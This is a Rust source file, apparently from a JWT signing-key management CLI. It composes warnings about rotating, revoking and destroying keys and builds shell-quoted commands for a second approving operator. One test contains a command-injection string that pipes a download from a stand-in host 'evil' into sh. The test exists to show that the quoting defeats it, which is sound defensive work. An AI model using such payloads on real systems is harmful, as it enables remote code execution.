//! Sentences for somebody who is tired: what will happen, what happened, what happens next and when, what to do.

use jiff::Timestamp;
use serde_json::Value;

use super::print::due;
use crate::admin::{ActName, KeyReport, NOTHING_SIGNS, VersionReport};

/// What is shown before a version signs that verifiers may not know.
pub(super) fn before_early(report: &KeyReport, version: &VersionReport) -> String {
    let ready = version.ready.map_or_else(String::new, |ready| format!(" before {ready}"));
    format!(
        "key {}: version {} will sign at once. Verifiers that keep a copy of the key set may not know it{ready} and \
         refuse its JWTs.",
        report.key, version.kid
    )
}

pub(super) fn before_retire(report: &KeyReport, version: &VersionReport) -> String {
    format!(
        "key {}: version {} stops signing, for good. Nothing takes over: every request for this key fails until \
         another version is activated. (`jwsd keys rotate` changes versions without a gap.)",
        report.key, version.kid
    )
}

pub(super) fn before_revoke(report: &KeyReport, version: &VersionReport) -> String {
    let (key, kid, state) = (&report.key, &version.kid, &version.state);
    let last = version.last_exp.map_or_else(String::new, |last| format!(", the last one valid until {last}"));
    let next = match (state.as_str(), prepared(report)) {
        ("active", Some(next)) if next.kid != *kid => format!("Version {} takes over at once.", next.kid),
        ("active", _) if report.generate => {
            "The next version is made and takes over; until then every request for \
             this key fails."
                .to_owned()
        }
        ("active", _) => {
            "None is prepared, so every request for this key fails until you adopt one.".to_owned()
        }
        _ => "It does not sign now, so nothing takes over.".to_owned(),
    };
    format!(
        "key {key}: version {kid} ({state}) is taken back for good: it stops signing, leaves the key set, and all its \
         JWTs ({} signed{last}) are void.\n{next}",
        version.signatures
    )
}

pub(super) fn before_destroy(report: &KeyReport, version: &VersionReport) -> String {
    let (kid, state, backends) = (&version.kid, &version.state, report.backends.join(", "));
    format!(
        "key {}: the private half of version {kid} ({state}) is destroyed in {backends}. Nobody can bring it back; in KMS, \
         only until `deletion_window` is over.",
        report.key
    )
}

fn prepared(report: &KeyReport) -> Option<&VersionReport> {
    report.versions.iter().find(|version| version.state == "prepared")
}

fn active(report: &KeyReport) -> Option<&VersionReport> {
    report.versions.iter().find(|version| version.state == "active")
}

/// What an act has led to: `report` is the key afterwards.
pub(super) fn after(act: ActName, kid: &str, report: &KeyReport, now: Timestamp) -> Vec<String> {
    let key = &report.key;
    let did = match act {
        ActName::Generate => format!("was made in {}", report.backends.first().map_or("", String::as_str)),
        ActName::Adopt => format!("was adopted in {}", report.backends.first().map_or("", String::as_str)),
        ActName::Rotate => "is the next to sign".to_owned(),
        ActName::Activate => "is active".to_owned(),
        ActName::Retire => "does not sign any more".to_owned(),
        ActName::Revoke => {
            "is revoked: it signs nothing, is not in the key set, and its JWTs are void".to_owned()
        }
        ActName::Destroy => {
            let gone = report.versions.iter().find(|version| version.kid == kid).and_then(|v| v.destroyed);
            match gone.filter(|gone| *gone > now) {
                Some(gone) => format!("will be destroyed at {gone}; until then the backend can give it back"),
                None => "is destroyed".to_owned(),
            }
        }
        ActName::Release => "is used again".to_owned(),
        // Not about a key.
        ActName::Erase => "stays as it is".to_owned(),
    };
    let mut lines = vec![format!("key {key}: version {kid} {did}")];
    match act {
        ActName::Generate | ActName::Adopt | ActName::Rotate | ActName::Activate => {
            let version = report.versions.iter().find(|version| version.kid == kid);
            lines.extend(version.map(|version| format!("next: {}", course(version, report, now))));
        }
        ActName::Retire | ActName::Revoke => {
            if act == ActName::Revoke {
                lines.push(
                    "verifiers that keep a copy of the key set accept its JWTs until that copy is stale \
                     (limits.jwks_max_age): tell them if that is too late"
                        .to_owned(),
                );
            }
            lines.push(who_signs(act, report));
        }
        ActName::Destroy | ActName::Release | ActName::Erase => {}
    }
    // Those two have said already that nothing signs.
    let said = matches!(act, ActName::Retire | ActName::Revoke);
    let problems = report.problems.iter().filter(|problem| !(said && *problem == NOTHING_SIGNS));
    lines.extend(problems.map(|problem| format!("! {problem}")));
    lines
}

/// What will come of a version by itself, or what has to be done.
fn course(version: &VersionReport, report: &KeyReport, now: Timestamp) -> String {
    let key = &report.key;
    let moment = |at: Timestamp| match at > now {
        true => format!("from {at} on ({})", due(at, now)),
        false => "in a moment".to_owned(),
    };
    if version.state != "prepared" {
        return match (version.state.as_str(), version.activated) {
            ("active", Some(at)) if at > now => format!("it signs from {at} on; nothing is left to do"),
            ("active", _) => "it signs now; nothing is left to do".to_owned(),
            (state, _) => format!("it is {state}; see `jwsd keys show {key}`"),
        };
    }
    let planned = report.next.as_ref().filter(|next| next.kid.as_deref() == Some(&version.kid));
    let turn = planned.filter(|next| next.step == "activate").map(|next| next.at);
    let turn = turn.or_else(|| version.ready.filter(|_| version.wanted));
    match (turn, version.ready) {
        (Some(at), _) => {
            format!("it is prepared and signs {}, when verifiers know it; nothing is left to do", moment(at))
        }
        (None, None) => {
            format!("it is prepared and shown to verifiers in a moment; see `jwsd keys show {key}`")
        }
        (None, Some(ready)) => format!(
            "it is prepared and waits for its turn; `jwsd keys rotate {key}` has it sign {}, when verifiers know it",
            moment(ready)
        ),
    }
}

fn who_signs(act: ActName, report: &KeyReport) -> String {
    let key = &report.key;
    match (active(report), prepared(report)) {
        (Some(version), _) => format!("version {} signs now", version.kid),
        (None, Some(version)) if act == ActName::Revoke => {
            format!("version {} takes over in a moment; see `jwsd keys show {key}`", version.kid)
        }
        (None, Some(version)) => {
            format!(
                "NO VERSION SIGNS NOW. `jwsd keys activate {key}` lets version {} sign, with --early before verifiers are \
                 sure to know it",
                version.kid
            )
        }
        (None, None) if act == ActName::Revoke && report.generate => {
            format!("NO VERSION SIGNS YET. The next one is being made; see `jwsd keys show {key}`")
        }
        (None, None) if report.generate => {
            format!(
                "NO VERSION SIGNS NOW. `jwsd keys generate {key}` makes one, `jwsd keys activate \
                 {key} --early` lets it sign before verifiers are sure to know it"
            )
        }
        (None, None) => {
            format!("NO VERSION SIGNS NOW. Make one in the backend and take it: `jwsd keys adopt {key} NAME`")
        }
    }
}

/// One argument for a shell, whatever is in it: the first operator chose the words that the second one runs.
fn quoted(argument: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte);
    match !argument.is_empty() && argument.bytes().all(plain) {
        true => argument.to_owned(),
        false => format!("'{}'", argument.replace('\'', r"'\''")),
    }
}

/// The person that is to be erased, as arguments.
fn whom(proposal: &Value) -> String {
    let text = |name: &str| proposal.get(name).and_then(Value::as_str);
    match (text("kind"), text("name"), text("issuer")) {
        (Some(kind), Some(name), Some(issuer)) => {
            format!(" --{kind}={} --issuer={}", quoted(name), quoted(issuer))
        }
        _ => " --everyone".to_owned(),
    }
}

/// An act that waits, and the command with which the second operator does it.
pub(in crate::cli) fn proposal(proposal: &Value) -> Vec<String> {
    let text = |name: &str| proposal.get(name).and_then(Value::as_str);
    let act = text("act").unwrap_or_default();
    let mut command = if act == "erase" { "jwsd erase".to_owned() } else { format!("jwsd keys {act}") };
    let early = proposal.get("early").and_then(Value::as_bool).unwrap_or_default();
    match (text("backend"), text("key")) {
        (Some(backend), key) => {
            command += &format!(" {}", quoted(backend));
            command += &key.map_or_else(String::new, |key| format!(" --key={}", quoted(key)));
        }
        (None, _) if act == "erase" => command += &whom(proposal),
        (None, key) => command += &format!(" {}", quoted(key.unwrap_or_default())),
    }
    command += if early { " --early" } else { "" };
    command += &text("kid").map_or_else(String::new, |kid| format!(" --kid={}", quoted(kid)));
    // Last: what begins with a dash is a name all the same.
    command += &text("name").filter(|_| act != "erase").map_or_else(String::new, |name| {
        format!(" {}{}", if name.starts_with('-') { "-- " } else { "" }, quoted(name))
    });
    let uid = proposal.pointer("/by/uid").and_then(Value::as_u64).unwrap_or_default();
    let mut lines = vec![format!("{act}: asked for by uid {uid} at {}", text("at").unwrap_or_default())];
    lines.extend(text("reason").map(|reason| format!("  reason: {reason}")));
    lines.push(format!("  the second operator: {command}"));
    lines.push(format!("  until:               {}", text("until").unwrap_or_default()));
    lines.push(format!(
        "  to call it off:      jwsd keys withdraw {}",
        quoted(text("id").unwrap_or_default())
    ));
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::admin::NextStep;

    const NOW: i64 = 1_800_000_000;

    fn report(versions: Value, next: Option<NextStep>) -> KeyReport {
        let whole = |version: &Value| {
            let mut whole = serde_json::json!({
                "backend": "hsm", "id": "01", "created": "2026-01-01T00:00:00Z", "wanted": false, "signatures": 7
            });
            whole.as_object_mut().unwrap().extend(version.as_object().unwrap().clone());
            serde_json::from_value(whole).unwrap()
        };
        KeyReport {
            key: "access".into(),
            algorithm: Some("ES256".into()),
            backends: vec!["hsm".into()],
            generate: true,
            next,
            versions: versions.as_array().unwrap().iter().map(whole).collect(),
            problems: Vec::new(),
        }
    }

    fn said(act: ActName, report: &KeyReport) -> String {
        after(act, "new", report, Timestamp::from_second(NOW).unwrap()).join("\n")
    }

    #[test]
    fn what_comes_next_is_said_with_its_time() {
        let at = Timestamp::from_second(NOW + 86_400).unwrap();
        let old = serde_json::json!({ "kid": "old", "state": "active" });
        let new = serde_json::json!({ "kid": "new", "state": "prepared", "published": "2027-01-15T08:00:00Z", "ready": at });
        let waits = report(serde_json::json!([old, new]), None);
        let text = said(ActName::Generate, &waits);
        assert!(
            text.contains("waits for its turn; `jwsd keys rotate access` has it sign from 2027-01-16"),
            "{text}"
        );
        let step = NextStep { step: "activate".into(), kid: Some("new".into()), at };
        let text = said(ActName::Rotate, &report(serde_json::json!([old, new]), Some(step)));
        assert!(
            text.contains("signs from 2027-01-16T08:00:00Z on (in 24h), when verifiers know it"),
            "{text}"
        );
        let mut wanted = waits;
        wanted.versions[1].wanted = true;
        assert!(
            said(ActName::Rotate, &wanted).contains("signs from 2027-01-16"),
            "another step is due before"
        );
        let first = report(serde_json::json!([{ "kid": "new", "state": "active" }]), None);
        assert!(said(ActName::Generate, &first).contains("it signs now; nothing is left to do"));
    }

    #[test]
    fn a_key_that_signs_nothing_is_not_kept_quiet() {
        let gone = report(serde_json::json!([{ "kid": "new", "state": "revoked" }]), None);
        assert!(said(ActName::Revoke, &gone).contains("NO VERSION SIGNS YET. The next one is being made"));
        assert!(said(ActName::Retire, &gone).contains("NO VERSION SIGNS NOW. `jwsd keys generate access`"));
        let adopted = KeyReport { generate: false, ..gone };
        assert!(said(ActName::Revoke, &adopted).contains("`jwsd keys adopt access NAME`"));
        let next =
            serde_json::json!([{ "kid": "new", "state": "revoked" }, { "kid": "next", "state": "active" }]);
        assert!(said(ActName::Revoke, &report(next, None)).contains("version next signs now"));
        let mut behind = report(serde_json::json!([{ "kid": "new", "state": "revoked" }]), None);
        behind.problems = vec![NOTHING_SIGNS.into(), "files are behind".into()];
        let text = said(ActName::Revoke, &behind);
        assert!(text.ends_with("\n! files are behind") && !text.contains(NOTHING_SIGNS), "{text}");
        let active = report(serde_json::json!([{ "kid": "new", "state": "active" }]), None);
        let warning = before_revoke(&active, &active.versions[0]);
        assert!(
            warning.contains("(7 signed)") && warning.contains("every request for this key fails"),
            "{warning}"
        );
    }

    #[test]
    fn the_second_operator_is_given_the_command() {
        let lines = proposal(&serde_json::json!({
            "id": "1", "act": "activate", "key": "access", "kid": "new", "early": true, "by": { "uid": 1000 },
            "at": "2027-01-15T08:00:00Z", "until": "2027-01-15T08:15:00Z"
        }));
        assert_eq!(lines[1], "  the second operator: jwsd keys activate access --early --kid=new");
        assert!(lines[0].contains("uid 1000") && lines[3].ends_with("withdraw 1"), "{lines:?}");
        let adopt = serde_json::json!({ "act": "adopt", "key": "access", "name": "pkcs11:object=a" });
        assert!(proposal(&adopt)[1].ends_with("jwsd keys adopt access 'pkcs11:object=a'"));
        let release = serde_json::json!({ "act": "release", "backend": "hsm", "key": "access" });
        assert!(proposal(&release)[1].ends_with("jwsd keys release hsm --key=access"));
    }

    #[test]
    fn nothing_that_one_operator_writes_runs_in_the_shell_of_the_other() {
        let command = |act: Value| proposal(&act)[1].clone();
        let nasty = "x'; curl evil|sh; '$(id)`id`";
        let shown = r"'x'\''; curl evil|sh; '\''$(id)`id`'";
        let adopt = command(serde_json::json!({ "act": "adopt", "key": "access", "name": nasty }));
        assert!(adopt.ends_with(&format!("jwsd keys adopt access {shown}")), "{adopt}");
        let release = command(serde_json::json!({ "act": "release", "backend": nasty, "key": nasty }));
        assert!(release.ends_with(&format!("jwsd keys release {shown} --key={shown}")), "{release}");
        let option =
            command(serde_json::json!({ "act": "adopt", "key": "access", "name": "--socket=/tmp/s" }));
        assert!(option.ends_with("jwsd keys adopt access -- '--socket=/tmp/s'"), "{option}");
        let line = as_read_by_a_shell(&adopt);
        assert_eq!(line, format!("adopt\naccess\n{nasty}\n"), "as a shell reads it");
    }

    /// What a shell gives `jwsd keys` as arguments, one a line.
    fn as_read_by_a_shell(line: &str) -> String {
        let command = line.split_once("jwsd keys ").unwrap().1;
        let output =
            std::process::Command::new("sh").args(["-c", &format!("printf '%s\\n' {command}")]).output();
        String::from_utf8(output.unwrap().stdout).unwrap()
    }
}
